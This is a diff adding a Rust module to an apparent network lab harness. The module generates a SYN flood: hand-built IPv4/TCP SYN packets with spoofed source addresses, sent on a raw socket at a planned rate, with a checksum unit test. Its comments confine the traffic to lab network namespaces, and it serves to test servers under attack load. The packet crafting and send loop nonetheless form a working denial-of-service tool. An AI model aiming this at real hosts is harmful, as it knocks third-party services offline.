@@ -1,0 +1,199 @@
+//! A SYN flood: raw SYN segments from spoofed sources, sent from the client namespace alongside
+//! the storm, as in seed 004.
+//!
+//! Every source address is in [`FLOOD_NET`] (198.19.0.0/16). The server namespace routes that
+//! network back over the lab link, and the client namespace blackholes it, so the server's
+//! SYN-ACKs die inside the lab: no RST ever comes back, and each SYN leaves a request socket
+//! in the server's SYN queue until its SYN-ACK retransmissions run out, exactly like a flood
+//! from addresses that do not answer. Nothing leaves the lab's namespaces.
+//!
+//! The segments are built by hand (IPv4 header + TCP header with an MSS option) and sent on an
+//! `IPPROTO_RAW` socket; the kernel fills in the IP checksum and ID, we compute the TCP checksum.
+
+use std::net::Ipv4Addr;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::Arc;
+use std::thread::JoinHandle;
+use std::time::{Duration, Instant};
+
+use rand::rngs::SmallRng;
+use rand::{Rng, SeedableRng};
+use serde::Serialize;
+use socket2::{Domain, Protocol, SockAddr, Socket, Type};
+
+use crate::error::Failure;
+use crate::plan::FloodPlan;
+use crate::topo::link::FLOOD_NET;
+use crate::topo::Netns;
+
+/// What the flood did.
+#[derive(Debug, Clone, Default, Serialize)]
+pub struct FloodStats {
+    /// SYNs handed to the kernel.
+    pub sent: u64,
+    /// Sends the kernel refused (e.g. ENOBUFS).
+    pub errors: u64,
+    /// SYNs per second actually achieved over the flood's span.
+    pub achieved_rate: f64,
+}
+
+/// A flood running on its own thread in the client namespace.
+pub struct Flood {
+    stop: Arc<AtomicBool>,
+    thread: JoinHandle<FloodStats>,
+}
+
+impl Flood {
+    /// Opens the raw socket in `ns` (so a missing capability fails before any traffic) and
+    /// starts sending at `t0 + plan.start`.
+    pub fn start(
+        ns: &Netns,
+        plan: &FloodPlan,
+        target: std::net::SocketAddrV4,
+        t0: Instant,
+        seed: u64,
+    ) -> Result<Flood, Failure> {
+        let socket = ns
+            .run(|| {
+                Socket::new(
+                    Domain::IPV4,
+                    Type::RAW,
+                    Some(Protocol::from(libc::IPPROTO_RAW)),
+                )
+            })?
+            .map_err(|e| {
+                Failure::environment(format!(
+                    "cannot open a raw socket for the SYN flood in the client namespace: {e} \
+                     (this needs CAP_NET_RAW); remove [flood] to run without it"
+                ))
+            })?;
+        let stop = Arc::new(AtomicBool::new(false));
+        let flag = stop.clone();
+        let plan = plan.clone();
+        let thread = std::thread::Builder::new()
+            .name("bl-flood".into())
+            .spawn(move || send_all(&socket, &plan, target, t0, seed, &flag))
+            .map_err(|e| Failure::environment(format!("cannot start the SYN flood: {e}")))?;
+        Ok(Flood { stop, thread })
+    }
+
+    /// Stops early if still sending, and returns what was sent.
+    pub fn stop(self) -> FloodStats {
+        self.stop.store(true, Ordering::SeqCst);
+        self.thread.join().expect("flood thread panicked")
+    }
+}
+
+fn send_all(
+    socket: &Socket,
+    plan: &FloodPlan,
+    target: std::net::SocketAddrV4,
+    t0: Instant,
+    seed: u64,
+    stop: &AtomicBool,
+) -> FloodStats {
+    let mut rng = SmallRng::seed_from_u64(seed ^ 0xf100d);
+    let dest = SockAddr::from(target);
+    let start = t0 + plan.start;
+    let gap = Duration::from_secs_f64(1.0 / plan.rate);
+    let mut stats = FloodStats::default();
+    let mut first = None;
+    let mut last = start;
+    for i in 0..plan.count {
+        if stop.load(Ordering::Relaxed) {
+            break;
+        }
+        let due = start + gap.mul_f64(i as f64);
+        let now = Instant::now();
+        if due > now {
+            std::thread::sleep(due - now);
+        }
+        let host: u16 = rng.random_range(1..=u16::MAX - 1);
+        let source = Ipv4Addr::from(u32::from(FLOOD_NET.0) | u32::from(host));
+        let segment = syn(
+            source,
+            rng.random_range(1024..=65535),
+            *target.ip(),
+            target.port(),
+            rng.random(),
+        );
+        match socket.send_to(&segment, &dest) {
+            Ok(_) => stats.sent += 1,
+            Err(_) => stats.errors += 1,
+        }
+        first.get_or_insert_with(Instant::now);
+        last = Instant::now();
+    }
+    if let Some(first) = first {
+        let span = (last - first).as_secs_f64();
+        if span > 0.0 {
+            stats.achieved_rate = (stats.sent.saturating_sub(1)) as f64 / span;
+        }
+    }
+    stats
+}
+
+/// An IPv4 + TCP SYN segment with an MSS option of 1460.
+pub fn syn(src: Ipv4Addr, sport: u16, dst: Ipv4Addr, dport: u16, seq: u32) -> Vec<u8> {
+    const IP_LEN: usize = 20;
+    const TCP_LEN: usize = 24; // 20 + MSS option
+    let mut p = vec![0u8; IP_LEN + TCP_LEN];
+    p[0] = 0x45; // IPv4, 5 words
+    p[2..4].copy_from_slice(&((IP_LEN + TCP_LEN) as u16).to_be_bytes());
+    p[6] = 0x40; // don't fragment
+    p[8] = 64; // TTL
+    p[9] = libc::IPPROTO_TCP as u8;
+    p[12..16].copy_from_slice(&src.octets());
+    p[16..20].copy_from_slice(&dst.octets());
+    let t = &mut p[IP_LEN..];
+    t[0..2].copy_from_slice(&sport.to_be_bytes());
+    t[2..4].copy_from_slice(&dport.to_be_bytes());
+    t[4..8].copy_from_slice(&seq.to_be_bytes());
+    t[12] = ((TCP_LEN / 4) as u8) << 4;
+    t[13] = 0x02; // SYN
+    t[14..16].copy_from_slice(&64240u16.to_be_bytes());
+    t[20..24].copy_from_slice(&[2, 4, 0x05, 0xb4]); // MSS 1460
+    let sum = tcp_checksum(src, dst, &p[IP_LEN..]);
+    p[IP_LEN + 16..IP_LEN + 18].copy_from_slice(&sum.to_be_bytes());
+    p
+}
+
+/// The TCP checksum over the IPv4 pseudo-header and the segment (whose checksum field is 0).
+fn tcp_checksum(src: Ipv4Addr, dst: Ipv4Addr, segment: &[u8]) -> u16 {
+    let mut sum: u32 = 0;
+    let mut add = |bytes: &[u8]| {
+        for chunk in bytes.chunks(2) {
+            let word = if chunk.len() == 2 {
+                u16::from_be_bytes([chunk[0], chunk[1]])
+            } else {
+                u16::from_be_bytes([chunk[0], 0])
+            };
+            sum += u32::from(word);
+        }
+    };
+    add(&src.octets());
+    add(&dst.octets());
+    add(&[0, libc::IPPROTO_TCP as u8]);
+    add(&(segment.len() as u16).to_be_bytes());
+    add(segment);
+    while sum > 0xffff {
+        sum = (sum & 0xffff) + (sum >> 16);
+    }
+    !(sum as u16)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn syn_checksum_verifies() {
+        let src = Ipv4Addr::new(198, 19, 1, 2);
+        let dst = Ipv4Addr::new(198, 18, 0, 1);
+        let p = syn(src, 40000, dst, 8080, 12345);
+        assert_eq!(p.len(), 44);
+        // Summing a segment with its checksum in place gives 0 (i.e. !0xffff).
+        assert_eq!(tcp_checksum(src, dst, &p[20..]), 0);
+        assert_eq!(p[20 + 13], 0x02);
+    }
+}
